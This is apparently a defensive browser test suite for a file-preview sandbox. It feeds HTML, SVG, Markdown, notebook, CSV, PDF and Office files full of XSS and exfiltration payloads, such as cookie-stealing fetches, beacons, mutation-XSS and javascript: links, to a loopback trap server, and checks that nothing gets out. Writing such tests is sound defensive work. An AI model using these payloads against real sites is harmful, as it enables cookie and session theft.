// SPDX-License-Identifier: GPL-3.0-or-later
// What a file can never do (SB-6, T-29): run with the page's access, read the cookie, the CSRF token or another file, or send anything anywhere.
// Files that try every way that we know, shown by the real renderers; then code that runs in the closed frame itself, as if a renderer had been
// taken over. A server on loopback that nobody should ask listens all the time.

import assert from 'node:assert/strict';
import { after, before, beforeEach, test } from 'node:test';
import { close_browser, fixture, listener, place, put, row, show, signed_in, url } from './support.mjs';

let trap;
let s;
before(async () => {
  trap = await listener();
  await put(place('outputs/secret.txt'), 'another file of this session');
  s = await signed_in();
});
beforeEach(() => trap.heard.splice(0));
after(async () => {
  await close_browser();
  trap.close();
});

const script = (t) => `
  try { parent.ran = top.ran = true } catch (e) {}
  for (let n = 0; n < 2000; n += 1) try { parent.postMessage({ type: 'want', n }, '*'); top.postMessage('flood', '*') } catch (e) {}
  try { fetch('${t}/fetch?' + encodeURIComponent(document.cookie)) } catch (e) {}
  try { navigator.sendBeacon('${t}/beacon') } catch (e) {}
  try { new Image().src = '${t}/image' } catch (e) {}
  try { window.open('${t}/open') } catch (e) {}
  try { top.location = '${t}/top' } catch (e) {}
  try { new Worker(URL.createObjectURL(new Blob(['fetch("${t}/worker")']))) } catch (e) {}
  try { new WebSocket('${t.replace('http', 'ws')}/socket') } catch (e) {}
  try { import('${t}/module.js') } catch (e) {}
  try { location = '${t}/self' } catch (e) {}`;

const markup = (t) => `
<meta http-equiv="refresh" content="0;url=${t}/meta"><base href="${t}/base/">
<link rel="stylesheet" href="${t}/link.css"><link rel="prefetch" href="${t}/prefetch"><link rel="preload" as="image" href="${t}/preload"><link rel="dns-prefetch" href="${t}"><link rel="preconnect" href="${t}"><link rel="icon" href="${t}/icon"><link rel="manifest" href="${t}/manifest">
<style>@import url("${t}/import.css"); body { background: url("${t}/background") } @font-face { font-family: f; src: url("${t}/font") } p { font-family: f; list-style: url("${t}/list"); cursor: url("${t}/cursor"), auto } p::after { content: url("${t}/content") }</style>
<script>${script(t)}</script><script src="${t}/script.js"></script><script type="module" src="${t}/module.js"></script>
<a id="go-away" href="${t}/click" ping="${t}/ping">click me</a><p style="background: url(${t}/inline)">text</p><img src="${t}/img" srcset="${t}/srcset 2x" onerror="fetch('${t}/onerror')" onload="fetch('${t}/onload')"><img src="x" onerror="fetch('${t}/onerror2')"><picture><source srcset="${t}/source"><img></picture>
<video src="${t}/video" poster="${t}/poster" autoplay></video><audio src="${t}/audio" autoplay></audio><video autoplay><source src="${t}/source2"><track default src="${t}/track"></video>
<object data="${t}/object"></object><embed src="${t}/embed"><iframe src="${t}/iframe"></iframe><iframe srcdoc="<script>fetch('${t}/srcdoc')</script><img src='${t}/srcdoc-img'>"></iframe><portal src="${t}/portal"></portal><frameset><frame src="${t}/frameset"></frameset>
<form action="${t}/form" id="form"><input name="a" autofocus onfocus="form.submit()"><button formaction="${t}/formaction">send</button></form><input type="image" src="${t}/input">
<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${t}/svgload')"><script>fetch('${t}/svgscript')</script><image href="${t}/svgimage" /><image xlink:href="${t}/svgimage2"/><use href="${t}/use#x"/><foreignObject><img src="${t}/foreign"></foreignObject><animate onbegin="fetch('${t}/animate')" attributeName="x" dur="1s"/><style>@import "${t}/svgimport";</style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=fetch('${t}/mutation')&gt;"></mglyph></table></mtext></math><math href="javascript:fetch('${t}/mathhref')">m</math>
<noscript><p title="</noscript><img src=x onerror=fetch('${t}/noscript')>"></noscript><template><img src="${t}/template"></template>
<a href="javascript:fetch('${t}/javascript')">and me</a><area href="${t}/area"><table background="${t}/table"><tr><td background="${t}/cell">x</td></tr></table><body background="${t}/body" onload="fetch('${t}/bodyload')">
<img src="/v1/files/uploads/secret.txt"><img src="${url}/v1/session">`;

const svg = (t) => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90" onload="fetch('${t}/load')"><script>${script(t).replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</script><style>@import url("${t}/import"); rect { fill: url("${t}/paint#p") }</style><image href="${t}/image" width="9" height="9"/><image xlink:href="${t}/image2"/><use href="${t}/use#a"/><foreignObject width="50" height="50"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${t}/foreign"/><iframe src="${t}/iframe"></iframe></body></foreignObject><a href="${t}/click"><rect width="90" height="90"/></a></svg>`;

async function hears_nothing(name, bytes) {
  await put(place(name), bytes);
  await row(s.page, name).waitFor();
  const frame = await show(s.page, name);
  await s.page.waitForTimeout(700);
  assert.deepEqual(trap.heard, [], name);
  // Neither this page nor its window was changed, moved or multiplied.
  assert.equal(await s.page.evaluate(() => window.ran), undefined);
  assert.equal(new URL(s.page.url()).origin, new URL(url).origin);
  assert.equal(s.context.pages().length, 1);
  return frame;
}

test('safety: given HTML that tries everything, when it is shown and clicked, then nothing is sent and nothing runs', async () => {
  const frame = await hears_nothing('outputs/hostile.html', `<!doctype html><html><head></head>${markup(trap.url)}`);
  const inner = await (await frame.waitForSelector('iframe.inner')).contentFrame();
  await inner.locator('#go-away').click();
  await s.page.waitForTimeout(400);
  assert.deepEqual(trap.heard, []);
});

test('safety: given HTML that no one cleaned, when it is in the nested frame, then its policy and sandbox alone hold it', async () => {
  const frame = await show(s.page, 'outputs/hostile.html');
  await frame.evaluate((text) => { document.querySelector('iframe.inner').srcdoc = text; }, `${markup(trap.url)}<a id="last" href="${trap.url}/last">last</a>`);
  await s.page.waitForTimeout(900);
  const inner = await (await frame.waitForSelector('iframe.inner')).contentFrame();
  await inner?.locator('#last').click({ timeout: 1500, force: true }).catch(() => {});
  await s.page.waitForTimeout(400);
  // A connection may be opened ahead of a link that is pointed at; nothing may be asked on it.
  assert.deepEqual(trap.heard.filter((each) => each !== 'connection'), []);
  assert.equal(await s.page.evaluate(() => window.ran), undefined);
});

test('safety: given an SVG that tries everything, then nothing is sent', () => hears_nothing('outputs/hostile.svg', svg(trap.url)));

test('safety: given Markdown that tries everything, then nothing is sent', async () => {
  const frame = await hears_nothing('outputs/hostile.md', `# Title\n\n![beacon](${trap.url}/markdown)\n\n[go](javascript:fetch('${trap.url}/js'))\n\n<div>\n${markup(trap.url)}\n</div>\n`);
  assert.equal(await frame.locator('#root script, #root iframe, #root form, #root object, #root style').count(), 0);
});

test('safety: given a notebook whose outputs try everything, then nothing is sent', () => {
  const data = (type, value) => ({ cell_type: 'code', source: 'x', outputs: [{ output_type: 'display_data', data: { [type]: value } }] });
  return hears_nothing('outputs/hostile.ipynb', JSON.stringify({ cells: [
    data('text/html', markup(trap.url)), data('image/svg+xml', svg(trap.url)), data('text/markdown', markup(trap.url)), data('application/javascript', script(trap.url)),
    { cell_type: 'markdown', source: markup(trap.url) }] }));
});

test('safety: given office files and a PDF with links, scripts and markup, then nothing is sent', async () => {
  await hears_nothing('outputs/hostile.pdf', fixture('hostile/action.pdf').toString('latin1').replaceAll('http://trap.invalid', trap.url));
  await hears_nothing('outputs/hostile.docx', fixture('hostile/link.docx'));
  await hears_nothing('outputs/hostile.csv', `name,"<img src=${trap.url}/csv onerror=alert(1)>"\n=HYPERLINK("${trap.url}"),<script>fetch('${trap.url}/cell')</script>\n`);
});

test('safety: given a name that is markup, then it is a name', async () => {
  const name = 'outputs/<img src=x onerror="document.title=1">.txt';
  await put(place(name), 'text');
  await row(s.page, name).click();
  assert.equal(await s.page.locator('#preview-name').innerText(), name.slice('outputs/'.length));
  assert.equal(await s.page.title(), 'Files of this session');
});

test('safety: given a renderer that was taken over, when it tries to get out of the closed frame, then it reaches nothing', async () => {
  const frame = await show(s.page, 'outputs/secret.txt');
  const results = await frame.evaluate(async ([t, own, path]) => {
    const tried = {};
    const attempt = async (name, action) => {
      try {
        const value = await Promise.race([action(), new Promise((resolve) => setTimeout(() => resolve('nothing'), 400))]);
        tried[name] = value === undefined ? 'done' : String(value);
      } catch (error) {
        tried[name] = `refused: ${error.name}`;
      }
    };
    const loads = (element, attribute, value) => new Promise((resolve, reject) => {
      element.onload = () => resolve('loaded');
      element.onerror = () => reject(new TypeError());
      element[attribute] = value;
      document.body.append(element);
    });
    const make = (name) => document.createElement(name);
    tried.origin = self.origin;
    await attempt('cookie', () => document.cookie);
    await attempt('storage', () => localStorage.length);
    await attempt('parent', () => parent.document.title);
    await attempt('csrf', () => top.document.body.innerHTML);
    await attempt('database', () => indexedDB.open('x') && new Promise((_, no) => no(new TypeError())));
    await attempt('fetch out', () => fetch(`${t}/fetch`, { mode: 'no-cors' }));
    await attempt('fetch own', () => fetch(`${own}/v1/manifest`, { credentials: 'include' }));
    await attempt('fetch file', () => fetch(`${own}/v1/files/${path}`, { credentials: 'include', mode: 'no-cors' }));
    await attempt('xhr', () => new Promise((yes, no) => { const x = new XMLHttpRequest(); x.onload = () => yes('loaded'); x.onerror = () => no(new TypeError()); x.open('GET', `${own}/v1/manifest`); x.send(); }));
    await attempt('beacon', () => navigator.sendBeacon(`${t}/beacon`) && 'queued');
    await attempt('socket', () => new Promise((yes, no) => { const w = new WebSocket(t.replace('http', 'ws')); w.onopen = () => yes('open'); w.onerror = () => no(new TypeError()); }));
    await attempt('events', () => new Promise((yes, no) => { const e = new EventSource(`${t}/events`); e.onopen = () => yes('open'); e.onerror = () => no(new TypeError()); }));
    await attempt('image', () => loads(make('img'), 'src', `${t}/image`));
    await attempt('own image', () => loads(make('img'), 'src', `${own}/v1/preview/${path}`));
    await attempt('script', () => loads(make('script'), 'src', `${t}/script.js`));
    await attempt('own file as script', () => loads(make('script'), 'src', `${own}/v1/preview/${path}`));
    await attempt('style', () => { const link = make('link'); link.rel = 'stylesheet'; return loads(link, 'href', `${t}/style.css`); });
    await attempt('module', () => import(`${t}/module.js`).then(() => 'loaded'));
    await attempt('eval', () => (0, eval)('1'));
    await attempt('function', () => new Function('return 1')());
    await attempt('worker', () => new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => yes('runs'); w.onerror = () => no(new TypeError()); }));
    await attempt('open', () => (window.open(`${t}/open`) ? 'opened' : 'nothing'));
    await attempt('top', () => { top.location = `${t}/top`; return 'nothing'; });
    await attempt('form', () => { const form = make('form'); form.action = `${t}/form`; document.body.append(form); form.submit(); return 'nothing'; });
    await attempt('frame', () => { const inner = make('iframe'); inner.src = `${t}/inner`; document.body.append(inner); return 'nothing'; });
    await attempt('object', () => { const inner = make('object'); inner.data = `${t}/object`; document.body.append(inner); return 'nothing'; });
    await attempt('link', () => { for (const rel of ['prefetch', 'preload', 'dns-prefetch', 'preconnect', 'modulepreload']) { const link = make('link'); link.rel = rel; link.as = 'image'; link.href = `${t}/${rel}`; document.head.append(link); } return 'nothing'; });
    await attempt('flood', () => { for (let n = 0; n < 20_000; n += 1) parent.postMessage({ type: 'want', from: 0, length: 1 }, '*'); return 'nothing'; });
    return tried;
  }, [trap.url, url, place('outputs/secret.txt')]);
  await s.page.waitForTimeout(500);
  const got = Object.entries(results).filter(([name, value]) => name !== 'origin' && value !== 'nothing' && !value.startsWith('refused'));
  assert.deepEqual(got, [['beacon', 'queued']].filter(() => results.beacon === 'queued'));
  assert.equal(results.origin, 'null');
  assert.deepEqual(trap.heard, []);
  assert.equal(new URL(s.page.url()).origin, new URL(url).origin);
  // The flood reached nobody: the page goes on.
  await show(s.page, 'outputs/hostile.md');
});

test('safety: given a frame that was taken over, when it moves itself elsewhere, then the page’s policy stops it', async () => {
  const ways = [
    (t) => { location.href = `${t}/self?everything`; },
    (t) => { const a = document.createElement('a'); a.href = `${t}/download`; a.download = 'x'; document.body.append(a); a.click(); },
    (t) => { const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = `0;url=${t}/refresh`; document.head.append(meta); },
  ];
  for (const way of ways) {
    const frame = await show(s.page, 'outputs/secret.txt');
    await frame.evaluate(way, trap.url).catch(() => {});
    await s.page.waitForTimeout(700);
  }
  assert.deepEqual(trap.heard, []);
});

test('safety: given the frame’s document opened by itself, then it is nobody’s there too', async () => {
  const page = await s.context.newPage();
  await page.goto(`${url}/frame`);
  assert.equal(await page.evaluate(() => self.origin), 'null');
  await page.close();
});

test('safety: given a page of somebody else’s, when it frames the closed frame or the page, then the browser refuses', async () => {
  const page = await s.context.newPage();
  await page.goto(`${trap.url}/host`);
  for (const path of ['/', '/embed', '/frame']) {
    await page.evaluate((src) => { const frame = document.createElement('iframe'); frame.src = src; document.body.append(frame); }, url + path);
  }
  await page.waitForTimeout(800);
  for (const frame of page.frames().slice(1)) assert.ok(frame.url().startsWith('chrome-error:'), frame.url());
  await page.close();
});
